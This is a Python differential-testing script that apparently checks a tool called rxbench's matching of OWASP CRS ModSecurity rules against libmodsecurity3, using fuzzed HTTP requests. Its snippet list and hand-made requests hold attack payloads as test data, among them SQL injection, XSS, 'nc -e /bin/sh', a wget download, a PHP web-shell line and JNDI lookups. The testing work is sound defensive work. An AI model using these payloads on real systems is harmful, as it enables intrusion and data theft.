#!/usr/bin/env python3
"""modsec_diff.py - rxbench's reading of ModSecurity rules against libmodsecurity3.

Two programs decide, rule by rule, whether each CRS rule matches each
request:

  modsec_ref_cli --modsec=3 RULES REQS   the payload suite's expected
      answer under --rules-target=variables (rules_load, waf_spec_parse,
      http_req_parse, waf_each, the reference matcher, rules_holds), and
      which rules it runs, which it skips (and why), which payloads are
      no requests to it (and why);
  modsec_oracle RULES LIST REQS          Debian's libmodsecurity3 (3.0.9)
      with each of those rules alone in a rule set of its own
      (tests/modsec_oracle.c says how a rule and a request are fed).

Requests: a fixed hand-made set (round 0: encodings %XX %uXXXX and '+',
NUL bytes, HTML entities, obs-fold, cookies with spaces and quotes,
repeated arguments, #fragment, CONNECT host:443, targets without '/',
form Content-Type spellings, JSON, multipart, chunked and XML bodies,
0xA0 and other high bytes, CR inside values, bodies with and without
Content-Length), then random ones built from attack snippets aimed at
CRS's rule families, encoded and placed at random, until --seconds
are spent.  Per rule rxbench runs and per request rxbench parses as a
request, a differing decision prints a reproducer (the rule, where it
is, both decisions, the request as a Python bytes literal); requests
rxbench does not parse are counted by reason (out of its reach: not
compared), as are the rules it does not run.  Exit 1 on any differing
decision, 0 without, 77 when the oracle is not built (libmodsecurity3
missing) or the rules are not installed.

  modsec_diff.py --ref-cli C --oracle O [--rules DIR] [--seconds N]
      [--seed N | --random] [--batch N] [--max-print N] [--keep DIR]
"""
import argparse
import collections
import os
import random
import re
import subprocess
import sys
import tempfile
import time

# --- what the requests carry ---

# Attack snippets, a few per CRS family, so that rules fire (and nearly
# fire) often enough for their decisions to be worth comparing.
SNIPPETS = [
    # 920/921: protocol, request smuggling and header injection
    b"%0d%0aSet-Cookie: x=1", b"\r\nLocation: x", b"%0aHost: evil",
    b"HTTP/1.1 200 OK", b"bytes=0-1,5-6,9-10,12-13,15-16,20-30",
    b"%c0%af", b"%u0025", b"%25252e",
    # 930: path traversal, 931: remote file inclusion
    b"../", b"..\\", b"/../../etc/passwd", b"..%2f..%2f", b"%2e%2e/",
    b".%00./", b"/.../", b"http://1.2.3.4/x", b"ftp://evil.example/x?",
    b"file:///etc/passwd", b"include(http://x/?", b"url=http://a.b/c?",
    # 932: command injection
    b";cat /etc/passwd", b"|id", b"$(id)", b"`whoami`", b"; ls -la",
    b"&& wget http://x/s.sh", b"/bin/bash -c", b"powershell -enc",
    b"cmd.exe /c dir", b"${IFS}cat${IFS}/etc/passwd", b"() { :; }; echo",
    b"nc -e /bin/sh", b"/usr/bin/python -c", b"%0Acat",
    # 933: PHP
    b"<?php system($_GET['c']); ?>", b"php://input", b"php://filter",
    b"$_SERVER", b"base64_decode(", b"eval(", b"phpinfo()",
    b"shell.php", b"assert($_POST[x])", b"O:8:\"stdClass\":0:{}",
    b"AUTH_TYPE", b"call_user_func(",
    # 934: Node.js
    b"require('child_process')", b"process.mainModule",
    b"_$$ND_FUNC$$_function(){}",
    # 941: XSS
    b"<script>alert(1)</script>", b"<img src=x onerror=alert(1)>",
    b"javascript:alert(1)", b"<svg/onload=alert(1)>",
    b"&#60;script&#62;", b"&lt;script&gt;", b"<iframe src=x>",
    b"document.cookie", b"vbscript:msgbox", b"style=\"x:expression(1)\"",
    b"<a href=\"data:text/html;base64,PHNjcmlwdD4=\">", b"%3Cscript%3E",
    b"%u003cscript%u003e", b"\xbcscript\xbe", b"<x onmouseover=y>",
    b"<!--", b"<?xml", b"<object data=x>", b"<embed src=x>",
    # 942: SQL injection
    b"' or 1=1--", b"1' and '1'='1", b"union select 1,2,3",
    b"UNION ALL SELECT NULL", b"sleep(5)", b"benchmark(1000,md5(1))",
    b"@@version", b"information_schema.tables", b"; drop table users",
    b"/*!50000select*/", b"char(0x41)", b"1 or 1=1", b"admin'--",
    b"' having 1=1", b"waitfor delay '0:0:5'", b"concat(0x3a,user())",
    b"\" or \"\"=\"", b"1;select pg_sleep(5)", b"' || 'a", b"x' = 'x",
    b"select * from", b"insert into", b"order by 1--", b"0x414141",
    b"1e1 union", b"` or 1", b"'; exec xp_cmdshell", b"sp_password",
    # 943: session fixation, 944: Java
    b"document.cookie=\"PHPSESSID=x\"", b";jsessionid=abc",
    b"${jndi:ldap://x/a}", b"java.lang.Runtime", b".getClass().forName",
    b"rO0ABXNy", b"ObjectInputStream", b"${${lower:j}ndi:", b"%24%7Bjndi:",
    b"Class.forName(\"java.lang.Runtime\")",
    # scanners (913) and the rest
    b"nikto", b"sqlmap/1.5", b"Nessus", b"masscan", b"dirbuster",
    b"hello world", b"a", b"", b"1234", b"x y", b"foo=bar",
]

BLANKS = [b" ", b"\t", b"\x0b", b"\x0c", b"\xa0", b"  ", b"+", b"%20",
          b"%09", b"%a0"]
HIGH = [b"\xa0", b"\xc0\xaf", b"\xff", b"\xe2\x80\xa8", b"\xef\xbc\x9c",
        b"\x80", b"\xc3\xa9"]

FORM_TYPES = [
    b"application/x-www-form-urlencoded",
    b"application/x-www-form-urlencoded; charset=utf-8",
    b"application/x-www-form-urlencoded;charset=UTF-8",
    b"APPLICATION/X-WWW-FORM-URLENCODED",
    b"Application/X-Www-Form-Urlencoded",
    b"application/x-www-form-urlencoded ",
    b"application/x-www-form-urlencodedx",
]


def pct(rng, s, frac=0.5):
    """Percent-encode about frac of s's bytes (upper or lower hex)."""
    out = bytearray()
    for c in s:
        if rng.random() < frac:
            out += (b"%%%02X" if rng.random() < 0.5 else b"%%%02x") % c
        else:
            out.append(c)
    return bytes(out)


def pct_u(rng, s):
    """%uXXXX for some bytes, now and then the full-width form."""
    out = bytearray()
    for c in s:
        r = rng.random()
        if r < 0.3:
            out += b"%%u%04x" % c
        elif r < 0.4 and 0x21 <= c <= 0x7e:
            out += b"%%uff%02x" % (c - 0x20)
        else:
            out.append(c)
    return bytes(out)


def entities(rng, s):
    """HTML entities for some bytes: &#DD; &#xHH; named, ';' or not."""
    named = {ord("<"): b"lt", ord(">"): b"gt", ord("&"): b"amp",
             ord('"'): b"quot", ord(" "): b"nbsp"}
    out = bytearray()
    for c in s:
        r = rng.random()
        semi = b";" if rng.random() < 0.8 else b""
        if r < 0.2:
            out += b"&#%d" % c + semi
        elif r < 0.35:
            out += b"&#x%x" % c + semi
        elif r < 0.5 and c in named:
            out += b"&" + named[c] + semi
        else:
            out.append(c)
    return bytes(out)


def mangle(rng, s, raw_ok):
    """One snippet, encoded and bent at random.  raw_ok: NUL, CR and
    control bytes may stay raw (a body), else they are %-encoded."""
    r = rng.random()
    if r < 0.15:
        s = pct(rng, s)
    elif r < 0.22:
        s = pct(rng, pct(rng, s, 0.3), 0.3)  # %25XX: double
    elif r < 0.3:
        s = pct_u(rng, s)
    elif r < 0.38:
        s = entities(rng, s)
    elif r < 0.45:
        s = bytes(c ^ 0x20 if (0x41 <= c <= 0x5a or 0x61 <= c <= 0x7a) and
                  rng.random() < 0.5 else c for c in s)
    if rng.random() < 0.2:
        s = s.replace(b" ", rng.choice(BLANKS))
    if rng.random() < 0.1:
        i = rng.randrange(len(s) + 1)
        s = s[:i] + rng.choice([b"%00", b"\x00" if raw_ok else b"%00",
                                rng.choice(HIGH), b"\r" if raw_ok else b"%0d",
                                b"\t"]) + s[i:]
    return s


def value(rng, raw_ok=False):
    """A value: one or two mangled snippets."""
    v = mangle(rng, rng.choice(SNIPPETS), raw_ok)
    if rng.random() < 0.3:
        v += rng.choice([b"", b" ", b"&", b"="]) + \
            mangle(rng, rng.choice(SNIPPETS), raw_ok)
    return v


def query_safe(rng, v):
    """v for a request target: blanks, controls and high bytes encoded
    (else rxbench would not read it as a request line), now and then not."""
    if rng.random() < 0.02:
        return v
    out = bytearray()
    for c in v:
        if c <= 0x20 or c >= 0x7f or c in b"#":
            out += b"%%%02X" % c if rng.random() < 0.8 else b"+"
        else:
            out.append(c)
    return bytes(out)


def header_safe(v):
    """v as a header value: no CR, LF or NUL (those make a different
    request, or none)."""
    return v.replace(b"\r", b"%0d").replace(b"\n", b"%0a").replace(
        b"\x00", b"%00")


def args(rng, n, raw_ok=False):
    """name=value pairs joined by '&' (repeated names, empty pieces,
    names without '=')."""
    names = [b"id", b"q", b"name", b"a", b"b", b"file", b"url", b"cmd",
             b"search", b"x[]", b"user", b"page"]
    parts = []
    for _ in range(n):
        r = rng.random()
        name = rng.choice(names)
        if r < 0.08:
            parts.append(b"")
        elif r < 0.16:
            parts.append(query_safe(rng, value(rng)))  # a name alone
        elif r < 0.24:
            parts.append(query_safe(rng, value(rng)) + b"=" + name)
        else:
            v = value(rng, raw_ok)
            parts.append(name + b"=" + (v if raw_ok else query_safe(rng, v)))
    return b"&".join(parts)


def target(rng, method):
    """A request target: path, query, fragment; the odd forms too."""
    r = rng.random()
    if method == b"CONNECT" or r < 0.03:
        return rng.choice([b"example.com:443", b"10.0.0.1:8443",
                           b"host:443", b"a.b:80"])
    if r < 0.06:
        return b"*"
    segs = [rng.choice([b"index.php", b"a", b"admin", b"wp-login.php",
                        b"x.jsp", b"cgi-bin", b"img.png", b".git",
                        b"web.config", b"etc", b"..", b"."])
            for _ in range(rng.randrange(0, 4))]
    if rng.random() < 0.3:
        segs.append(query_safe(rng, value(rng)))
    path = b"/".join(segs)
    if rng.random() < 0.9:
        path = b"/" + path
    if rng.random() < 0.08:
        path = b"http://example.com" + (path if path.startswith(b"/")
                                        else b"/" + path)
    if rng.random() < 0.6:
        path += b"?" + args(rng, rng.randrange(1, 4))
    if rng.random() < 0.1:
        path += b"#" + query_safe(rng, value(rng))
    return path


def cookie(rng):
    """A Cookie header value: spaces, quotes, odd separators."""
    parts = []
    for _ in range(rng.randrange(1, 4)):
        n = rng.choice([b"session", b"PHPSESSID", b"__utma", b"a b", b"c",
                        b"x\"y", b"$Version"])
        v = header_safe(value(rng))
        form = rng.random()
        if form < 0.2:
            v = b'"' + v + b'"'
        elif form < 0.3:
            n = n + b" "
        elif form < 0.4:
            v = b" " + v
        parts.append(n + b"=" + v if rng.random() < 0.9 else n)
    return rng.choice([b"; ", b";", b" ;  "]).join(parts)


def body(rng):
    """(content-type or None, body bytes, chunked?)."""
    r = rng.random()
    if r < 0.4:
        return rng.choice(FORM_TYPES), args(rng, rng.randrange(1, 4),
                                            rng.random() < 0.5), False
    if r < 0.55:
        return (rng.choice([b"application/json",
                            b"application/json; charset=utf-8",
                            b"Application/JSON", b"application/jsonx"]),
                json_body(rng), False)
    if r < 0.65:
        return (rng.choice([b"text/xml", b"application/xml"]),
                b"<?xml version=\"1.0\"?><r><a>" + entities(rng, value(rng)) +
                b"</a></r>", False)
    if r < 0.77:
        v = value(rng, True)
        return (b"multipart/form-data; boundary=XyZ",
                b"--XyZ\r\nContent-Disposition: form-data; name=\"f\"\r\n"
                b"\r\n" + v + b"\r\n--XyZ\r\nContent-Disposition: form-data;"
                b" name=\"up\"; filename=\"" + header_safe(
                    rng.choice([b"a.php", b"x.txt", value(rng)])) +
                b"\"\r\nContent-Type: text/plain\r\n\r\nhello\r\n--XyZ--\r\n",
                False)
    if r < 0.87:
        ctype, b, _ = body(rng) if rng.random() < 0.7 else (
            b"text/plain", value(rng, True), False)
        return ctype, b, True
    return rng.choice([b"text/plain", None]), value(rng, True), False


JSON_KEYS = [b"a", b"b", b"id", b"q", b"", b"a.b", b"x y", b"user",
             b"\\u00e9t\\u00e9", b"k\\\"q", b"data", b"cmd"]


def json_str(rng, v):
    """v as a JSON string: '"' and '\\' escaped, control bytes as \\u00XX,
    bytes above 0x7f as \\u00XX (Latin-1) or kept when they are UTF-8;
    now and then left raw (a body yajl refuses)."""
    if rng.random() < 0.03:
        return b'"' + v + b'"'
    try:
        v.decode("utf-8")
        keep_high = True
    except UnicodeDecodeError:
        keep_high = False
    out = bytearray(b'"')
    for c in v:
        if c in b'"\\':
            out += b"\\" + bytes([c])
        elif c < 0x20 or (c >= 0x80 and not keep_high):
            out += rng.choice([b"\\u%04x", b"\\u%04X"]) % c
        elif c == 0x2f and rng.random() < 0.3:
            out += b"\\/"
        else:
            out.append(c)
    if rng.random() < 0.1:
        out += rng.choice([b"\\n", b"\\t", b"\\u00e9", b"\\ud83d\\ude00",
                           b"\\u003cscript\\u003e", b"\\u0000", b"\\b\\f\\r",
                           b"\\udc00"])
    return bytes(out + b'"')


def json_value(rng, depth):
    """A JSON value: objects and arrays (nested, empty), strings from
    attack snippets, numbers as written, true, false, null."""
    r = rng.random()
    if depth < 4 and r < 0.25:
        items = [json_str(rng, rng.choice(JSON_KEYS) if rng.random() < 0.8
                          else value(rng)).replace(b"\\\\u", b"\\u") +
                 rng.choice([b":", b": ", b" : "]) + json_value(rng, depth + 1)
                 for _ in range(rng.randrange(0, 4))]
        return b"{" + rng.choice([b",", b", ", b",\n "]).join(items) + b"}"
    if depth < 4 and r < 0.45:
        items = [json_value(rng, depth + 1) for _ in range(rng.randrange(0, 4))]
        return b"[" + rng.choice([b",", b", "]).join(items) + b"]"
    if r < 0.47:  # not JSON: the whole body is out of rxbench's reach
        return rng.choice([b"007", b"1.", b"0x1f", b"-", b"True", b"nul",
                           b"'a'", b"[1,]", b"{\"a\"}"])
    if r < 0.55:
        return rng.choice([b"0", b"-1", b"12", b"1.5", b"-0.0", b"1e3",
                           b"2E-7", b"10000000000000000000000", b"1E+2"])
    if r < 0.62:
        return rng.choice([b"true", b"false", b"null"])
    return json_str(rng, value(rng, True))


def json_body(rng):
    """A JSON request body: mostly an object; an array or a scalar at the
    top now and then, blanks around, and now and then cut or trailed."""
    r = rng.random()
    if r < 0.7:
        v = json_value(rng, 0)
        if not v.startswith(b"{"):
            v = b'{"a": ' + v + b', "b": ' + json_value(rng, 1) + b"}"
    elif r < 0.9:
        v = b"[" + b", ".join(json_value(rng, 1)
                              for _ in range(rng.randrange(1, 4))) + b"]"
    else:
        v = json_value(rng, 3)
    if rng.random() < 0.2:
        v = rng.choice([b" ", b"\n", b"\t", b"\r\n"]) + v + b" "
    if rng.random() < 0.04:
        v = v[:rng.randrange(1, len(v) + 1)] if len(v) > 1 else v
    if rng.random() < 0.03:
        v += rng.choice([b"}", b",", b"x", b" {}"])
    return v


def chunk(b, rng=None):
    """b as a chunked body: up to four chunks, sizes in either case and
    with leading zeros, chunk extensions, trailers (with rng)."""
    cuts = sorted({0, len(b)} | ({rng.randrange(len(b) + 1) for _ in range(
        rng.randrange(0, 4))} if rng else {len(b) // 2}))
    out = b""
    for i in range(len(cuts) - 1):
        part = b[cuts[i]:cuts[i + 1]]
        if not part:
            continue
        size = b"%x" % len(part)
        if rng and rng.random() < 0.2:
            size = rng.choice([size.upper(), b"0" + size, b"000" + size])
        ext = b""
        if rng and rng.random() < 0.15:
            ext = rng.choice([b";a=1", b"; name=\"v\"", b";x", b" ;y=z"])
        out += size + ext + b"\r\n" + part + b"\r\n"
    last = b"0\r\n"
    if rng and rng.random() < 0.15:
        last = rng.choice([b"0;end\r\n", b"000\r\n",
                           b"0\r\nX-Trailer: <script>\r\n",
                           b"0\r\nA: 1\r\nB: 2\r\n"])
    return out + last + b"\r\n"


def request(rng):
    """One random request as raw bytes."""
    method = rng.choice([b"GET", b"GET", b"GET", b"POST", b"POST", b"PUT",
                         b"HEAD", b"OPTIONS", b"DELETE", b"PATCH",
                         b"CONNECT", b"TRACE", b"PROPFIND", b"get"])
    proto = rng.choice([b"HTTP/1.1"] * 6 + [b"HTTP/1.0", b"HTTP/2.0"])
    eol = b"\r\n" if rng.random() < 0.97 else b"\n"
    hdrs = [(b"Host", rng.choice([b"example.com", b"1.2.3.4",
                                  b"example.com:8080"]))]
    if rng.random() < 0.8:
        hdrs.append((b"User-Agent", rng.choice(
            [b"Mozilla/5.0 (X11; Linux x86_64)", b"curl/7.88.1",
             header_safe(value(rng))])))
    if rng.random() < 0.5:
        hdrs.append((b"Accept", rng.choice([b"*/*", b"text/html",
                                            b"application/json"])))
    if rng.random() < 0.4:
        hdrs.append((b"Cookie", cookie(rng)))
    if rng.random() < 0.3:
        hdrs.append((rng.choice([b"Referer", b"X-Forwarded-For", b"X-Api",
                                 b"Accept-Language", b"Range", b"Origin",
                                 b"Content-Encoding"]),
                     header_safe(value(rng))))
    if rng.random() < 0.05:
        hdrs.append((b"X-High", rng.choice(HIGH) + b"x" + rng.choice(HIGH)))
    ctype, b, chunked = (None, b"", False)
    if method in (b"POST", b"PUT", b"PATCH") or rng.random() < 0.1:
        ctype, b, chunked = body(rng)
    if ctype is not None:
        hdrs.append((b"Content-Type", ctype))
    if chunked:
        b = chunk(b, rng)
        hdrs.append((b"Transfer-Encoding", b"chunked"))
    elif b and rng.random() < 0.98:
        n = len(b) + (rng.choice([-1, 1]) if rng.random() < 0.05 else 0)
        hdrs.append((b"Content-Length", b"%d" % n))
    elif not b and rng.random() < 0.1:
        hdrs.append((b"Content-Length", b"0"))
    rng.shuffle(hdrs)
    head = method + b" " + target(rng, method) + b" " + proto + eol
    for name, v in hdrs:
        if rng.random() < 0.04 and b" " in v:  # obs-fold
            i = v.index(b" ")
            v = v[:i] + eol + rng.choice([b" ", b"\t", b"   "]) + v[i + 1:]
        if rng.random() < 0.005:
            v = v + b"\r" + b"x"  # a CR inside the value
        head += name + b":" + rng.choice([b" ", b"", b"  ", b"\t"]) + v + eol
    return head + eol + b


def handmade():
    """The fixed requests of round 0, one per edge the brief names."""
    F = b"application/x-www-form-urlencoded"
    def form(ctype, b, extra=b""):
        return (b"POST /f HTTP/1.1\r\nHost: a\r\nContent-Type: " + ctype +
                b"\r\nContent-Length: %d\r\n" % len(b) + extra + b"\r\n" + b)
    def get(t, extra=b""):
        return b"GET " + t + b" HTTP/1.1\r\nHost: a\r\n" + extra + b"\r\n"
    reqs = [
        get(b"/"),
        get(b"/a/../b"), get(b"/a/%2e%2e/b"), get(b"/a/..%2fb"),
        get(b"/?x=%3Cscript%3Ealert(1)%3C/script%3E"),
        get(b"/?x=%u003cscript%u003ealert(1)"),
        get(b"/?x=%uff1cscript%uff1e"),
        get(b"/?x=1+union+select+1,2"),
        get(b"/?x=1%20union%20select%201,2"),
        get(b"/?x=a%00b"), get(b"/?x=%00%3Cscript%3E"),
        get(b"/?x=&#60;script&#62;"), get(b"/?x=%26lt%3Bscript%26gt%3B"),
        get(b"/?x=%26%2360%3Bscript"),
        get(b"/?a=1&a=2&a=%27+or+1%3D1--"), get(b"/?a&&b=&=c"),
        get(b"/x#frag"), get(b"/x?y=1#<script>"), get(b"/x#/../../etc/passwd"),
        get(b"/x?y=%23<script>alert(1)</script>"),
        b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n",
        b"CONNECT a/../b:443 HTTP/1.1\r\nHost: a\r\n\r\n",
        get(b"index.php?x=1"), get(b"index.php"), get(b"*"),
        b"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
        get(b"http://example.com/a?b=../../etc/passwd"),
        get(b"/", b"Cookie: a=b; c = d ;e=\"f g\"; h=' or 1=1--\r\n"),
        get(b"/", b"Cookie: x=<script>; y=\"union select\"\r\n"),
        get(b"/", b"Cookie: a b=c d\r\n"),
        get(b"/", b"Cookie: __utma=<script>alert(1)</script>\r\n"),
        get(b"/", b"X-A: one\r\n two\r\n"),
        get(b"/", b"User-Agent: Mozilla\r\n\tnikto\r\n"),
        get(b"/", b"X-A: <script>\r\n   alert(1)</script>\r\n"),
        get(b"/", b"X-A: a\rb\r\n"),
        get(b"/", b"X-A: a\xa0b\r\n"), get(b"/", b"X-A: union\xa0select\r\n"),
        get(b"/?x=union%a0select"), get(b"/?x=union%0bselect"),
        get(b"/", b"X-A: \xc0\xaf\xff\r\n"),
        get(b"/", b"Referer: http://1.2.3.4/x?../../etc/passwd\r\n"),
        get(b"/", b"Range: bytes=0-1,2-3,4-5,6-7,8-9,10-11\r\n"),
        form(F, b"a=<script>alert(1)</script>"),
        form(F, b"a=%3Cscript%3E&b=' or 1=1--"),
        form(F + b"; charset=utf-8", b"a=<script>alert(1)</script>"),
        form(F + b";charset=UTF-8", b"a=union select 1"),
        form(b"APPLICATION/X-WWW-FORM-URLENCODED", b"a=union select 1"),
        form(b"Application/x-www-form-urlencoded", b"a=<script>"),
        form(F, b"a=b\x00c<script>"), form(F, b"a=x\ry&b=../../etc/passwd"),
        form(F, b"a=\xa0union\xa0select"),
        form(b"application/json", b'{"a": "<script>alert(1)</script>"}'),
        form(b"application/json", b'{"a": ["1 union select 1"], "b": 1}'),
        form(b"application/json", b'{"a": "x\\u003cscript\\u003e"}'),
        form(b"text/xml", b"<?xml version=\"1.0\"?><a>&lt;script&gt;</a>"),
        form(b"application/xml", b"<a><b>union select 1</b></a>"),
        form(b"multipart/form-data; boundary=B",
             b"--B\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n"
             b"<script>alert(1)</script>\r\n--B--\r\n"),
        form(b"multipart/form-data; boundary=B",
             b"--B\r\nContent-Disposition: form-data; name=\"f\"; "
             b"filename=\"x.php\"\r\n\r\n<?php system($_GET[1]); ?>\r\n"
             b"--B--\r\n"),
        form(b"text/plain", b"<script>alert(1)</script>"),
        form(b"text/plain", b"a=<script>alert(1)</script>"),
        b"POST /c HTTP/1.1\r\nHost: a\r\nContent-Type: " + F +
        b"\r\nTransfer-Encoding: chunked\r\n\r\n"
        b"9\r\na=<script\r\n1\r\n>\r\n0\r\n\r\n",
        b"POST /n HTTP/1.1\r\nHost: a\r\n\r\n",
        b"POST /n HTTP/1.1\r\nHost: a\r\nContent-Length: 0\r\n\r\n",
        b"POST /n HTTP/1.1\r\nHost: a\r\nContent-Type: " + F + b"\r\n\r\n"
        b"a=<script>",
        form(F, b"a=1", b"X-B: x\r\n"),
        b"GET /?x=<script> HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET / HTTP/1.1\nHost: a\nUser-Agent: sqlmap/1.5\n\n",
        b"TRACE / HTTP/1.1\r\nHost: a\r\n\r\n",
        b"get / HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET / HTTP/1.0\r\n\r\n",
        b"GET / HTTP/2.0\r\nHost: a\r\n\r\n",
        get(b"/?a=\\x3cscript\\x3e"), get(b"/?a=a\\\\b"),
        get(b"/?a=%5c..%5c..%5cwindows"),
        get(b"/?a=%2525252e%2525252e/"),
        get(b"/?a=${jndi:ldap://x/a}"), get(b"/", b"X-A: ${jndi:ldap://x}\r\n"),
        get(b"/?a=line1%0aline2%0d%0aSet-Cookie:x"),
        get(b"/?a=select%0a*%0afrom%0ausers"),
    ]
    return reqs


# --- running the two sides ---


def frames(reqs):
    return b"".join(b"%d\n" % len(r) + r for r in reqs)


def run(cmd):
    p = subprocess.run(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
    if p.returncode != 0:
        sys.stderr.write("modsec_diff: %s failed (%d): %s\n" % (
            " ".join(cmd), p.returncode, p.stderr.decode(errors="replace")))
        sys.exit(2)
    return p.stdout.decode("utf-8", errors="replace"), \
        p.stderr.decode(errors="replace")


def req_lines(text):
    """{index: [names]} from 'req I: NAMES' lines; {index: why} from
    'notreq I: WHY' lines."""
    got, notreq = {}, {}
    for line in text.splitlines():
        if line.startswith("req "):
            head, _, rest = line[4:].partition(":")
            got[int(head)] = rest.split()
        elif line.startswith("notreq "):
            head, _, rest = line[7:].partition(": ")
            notreq[int(head)] = rest
    return got, notreq


def rules_of(ref_cli, version, rules):
    """What modsec_ref_cli --modsec=VERSION says of RULES: the rules it
    runs and those it skips ([name, FILE:LINE] and [name, why] pairs),
    and how many SecRules are no @rx rule at all."""
    out, _ = run([ref_cli, "--modsec=%d" % version, rules])
    runs, skips, skipped = [], [], 0
    for line in out.splitlines():
        if line.startswith("run "):
            runs.append(line[4:].split("\t"))
        elif line.startswith("skip "):
            skips.append(line[5:].split("\t"))
        elif line.startswith("skipped "):
            skipped = int(line.split()[1])
    return runs, skips, skipped


def reason_class(why):
    """A parser's reason without its specifics, for counting."""
    words = why.split(": ", 1)[-1] if why.startswith("line ") else why
    return re.sub(r"\b\d+\b", "N", words)[:100]


def self_check(oracle, tmp):
    """The oracle on three rules it must decide right (a phase 1 header,
    a phase 2 form argument, a phase 5 basename) and a request that
    matches none: a broken feed or intervention check shows here, not as
    thousands of differences."""
    conf, lst = os.path.join(tmp, "check.conf"), os.path.join(tmp, "check")
    with open(conf, "w") as f:
        f.write('SecRule REQUEST_HEADERS:X-A "@rx ^evil$" "id:1,phase:1"\n'
                'SecRule ARGS_POST "@rx evil" "id:2,phase:2"\n'
                'SecRule REQUEST_BASENAME "@rx ^evil" "id:3,phase:5"\n')
    with open(lst, "w") as f:
        f.write("".join("r%d\t%s:%d\n" % (i, conf, i) for i in (1, 2, 3)))
    reqs = [b"GET / HTTP/1.1\r\nX-A: evil\r\n\r\n",
            b"POST / HTTP/1.1\r\nContent-Type: application/x-www-form-"
            b"urlencoded\r\nContent-Length: 6\r\n\r\na=evil",
            b"GET /a/evil.php HTTP/1.1\r\n\r\n",
            b"GET /x?a=evil HTTP/1.1\r\nX-A: evil2\r\n\r\n"]
    with open(os.path.join(tmp, "check.reqs"), "wb") as f:
        f.write(frames(reqs))
    out, _ = run([oracle, conf, lst, os.path.join(tmp, "check.reqs")])
    got, _ = req_lines(out)
    want = {0: ["r1"], 1: ["r2"], 2: ["r3"], 3: []}
    for f in ("check.conf", "check", "check.reqs"):
        os.unlink(os.path.join(tmp, f))
    if got != want:
        sys.stderr.write("modsec_diff: the oracle fails its self-check: "
                         "%r, want %r\n" % (got, want))
        sys.exit(2)


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--ref-cli", required=True)
    ap.add_argument("--oracle", default="")
    ap.add_argument("--rules", default="/usr/share/modsecurity-crs/rules")
    ap.add_argument("--seconds", type=float, default=15)
    ap.add_argument("--seed", type=int, default=22)
    ap.add_argument("--random", action="store_true",
                    help="a random seed (printed) instead of --seed")
    ap.add_argument("--batch", type=int, default=150,
                    help="random requests per round")
    ap.add_argument("--max-print", type=int, default=0,
                    help="reproducers printed (0: every one)")
    ap.add_argument("--keep", help="write each round's requests here")
    a = ap.parse_args()
    if not a.oracle or not os.access(a.oracle, os.X_OK):
        print("modsec_diff: SKIP: no modsec_oracle (libmodsecurity3 not "
              "installed: apt-get install libmodsecurity-dev)")
        return 77
    if not os.path.exists(a.rules):
        print("modsec_diff: SKIP: no rules at %s (apt-get install "
              "modsecurity-crs)" % a.rules)
        return 77
    if a.random:
        a.seed = int.from_bytes(os.urandom(4), "little")
    print("modsec_diff: seed %d" % a.seed, flush=True)
    rng = random.Random(a.seed)
    start = time.monotonic()
    tmp = tempfile.mkdtemp(prefix="modsec_diff.")
    reqf, listf = os.path.join(tmp, "reqs"), os.path.join(tmp, "list")

    self_check(a.oracle, tmp)
    runs, skips, skipped = rules_of(a.ref_cli, 3, a.rules)
    with open(listf, "w") as f:
        f.writelines("%s\t%s\n" % (n, at) for n, at in runs)
    where = {n: at for n, at in runs}

    ndiff = printed = compared = nreq = nparsed = 0
    oracle_s = 0.0
    per_rule = collections.Counter()
    out_of_reach = collections.Counter()
    norule = {}
    rounds = 0
    oracle_hits = collections.Counter()
    while rounds == 0 or time.monotonic() - start < a.seconds:
        reqs = handmade() if rounds == 0 else [request(rng)
                                               for _ in range(a.batch)]
        with open(reqf, "wb") as f:
            f.write(frames(reqs))
        if a.keep:
            os.makedirs(a.keep, exist_ok=True)
            with open(os.path.join(a.keep, "round%d" % rounds), "wb") as f:
                f.write(frames(reqs))
        ref_out, _ = run([a.ref_cli, "--modsec=3", a.rules, reqf])
        t0 = time.monotonic()
        or_out, _ = run([a.oracle, a.rules, listf, reqf])
        oracle_s += time.monotonic() - t0
        for line in or_out.splitlines():
            if line.startswith("norule "):
                name, _, err = line[7:].partition(": ")
                norule[name] = err
        ref, notreq = req_lines(ref_out)
        orc, _ = req_lines(or_out)
        for i, r in enumerate(reqs):
            nreq += 1
            if i in notreq:
                out_of_reach[reason_class(notreq[i])] += 1
                continue
            nparsed += 1
            rs, os_ = set(ref.get(i, [])), set(orc.get(i, []))
            oracle_hits.update(os_)
            for name, _ in runs:
                if name in norule:
                    continue
                compared += 1
                if (name in rs) == (name in os_):
                    continue
                ndiff += 1
                per_rule[(name, name in os_)] += 1
                if a.max_print == 0 or printed < a.max_print:
                    printed += 1
                    print("DIFF %s (%s): libmodsecurity %s, rxbench %s: %r" % (
                        name, where[name],
                        "matches" if name in os_ else "no match",
                        "matches" if name in rs else "no match", r))
        rounds += 1
    sys.stdout.flush()
    print("modsec_diff: seed %d, %d rounds in %.1f s (oracle %.1f s)" % (
        a.seed, rounds, time.monotonic() - start, oracle_s))
    print("rules: %d run and compared, %d not run by rxbench, %d SecRules "
          "not read as rules (other operators, macros)" % (
              len(runs) - len(norule), len(skips), skipped))
    for why, n in collections.Counter(s[2] for s in skips).most_common():
        print("  not run: %3d  %s" % (n, why))
    for name, err in sorted(norule.items()):
        print("  libmodsecurity refused %s: %s" % (name, err.strip()))
    print("requests: %d, %d parsed by rxbench, %d out of its reach:" % (
        nreq, nparsed, nreq - nparsed))
    for why, n in out_of_reach.most_common():
        print("  out of reach: %4d  %s" % (n, why))
    print("decisions: %d rules x requests compared, %d differ; "
          "libmodsecurity matched %d rules at least once" % (
              compared, ndiff, len(oracle_hits)))
    for (name, om), n in sorted(per_rule.items(), key=lambda x: -x[1]):
        print("  %-10s %5d  %s" % (name, n, "libmodsecurity matches, "
                                    "rxbench not" if om else
                                    "rxbench matches, libmodsecurity not"))
    if not a.keep:
        for f in (reqf, listf):
            os.unlink(f)
        os.rmdir(tmp)
    return 1 if ndiff or norule else 0


if __name__ == "__main__":
    sys.exit(main())
